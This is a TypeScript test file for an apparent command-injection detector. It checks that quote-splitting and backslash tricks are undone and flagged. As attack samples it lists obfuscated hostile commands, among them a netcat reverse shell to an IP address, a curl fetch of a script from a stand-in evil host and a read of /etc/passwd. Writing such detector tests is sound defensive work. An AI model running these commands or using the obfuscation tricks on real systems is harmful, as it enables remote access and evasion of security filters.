import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { shellDequote } from '../../../src/threat/detectors/cmdi-dequote.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;

describe('shell quote removal (cmdi-dequote.ts)', () => {
  it('undoes quoting glued into words as sh/bash do', () => {
    assert.equal(shellDequote("w'h'o'am'i"), 'whoami');
    assert.equal(shellDequote('"wh"oami -a'), 'whoami -a');
    assert.equal(shellDequote("wh''oami"), 'whoami');
    assert.equal(shellDequote('w\\hoami; c\\at /e\\tc/passwd'), 'whoami; cat /etc/passwd');
    assert.equal(shellDequote('wh\\\noami'), 'whoami');
    assert.equal(shellDequote('wh\\\r\noami'), 'whoami');
    assert.equal(shellDequote("n'e't v'i'ew 'a b'"), 'net view a b');
  });
  it('leaves values with nothing glued into a word (undefined: not read twice)', () => {
    for (const v of ["Seán O'Brien", "'id'", 'C:\\Users\\me\\docs', "it's John's", 'say "hello world" twice', 'a \\ b', "nobody's home", 'x\\']) {
      assert.equal(shellDequote(v), undefined, v);
    }
  });
});

describe('command injection hidden by quoting glued into words', () => {
  const attacks = ["n'e't v'i'ew", "c'u'rl h't'tps://evil.example/x.sh", 'w\\\nhich p\\\nerl', ';c\\at /e\\tc/pa\\sswd', "| n'c -e /bin/sh 203.0.113.7 4444",
    's\\\nleep 10', '"ne"tstat -an', 'u\\name -a'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  const benign = ["O'Brien's 'best' offer", "don't 'cat' me", 'C:\\Program Files\\x', "rock'n'roll is here", "it's 'ls' they said", "the 'net' view of it",
    'a\\b\\c', "l'homme et l'eau", 'ca\\\nt videos are fun', "c'est la vie", 'path\\to\\file.txt'];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});
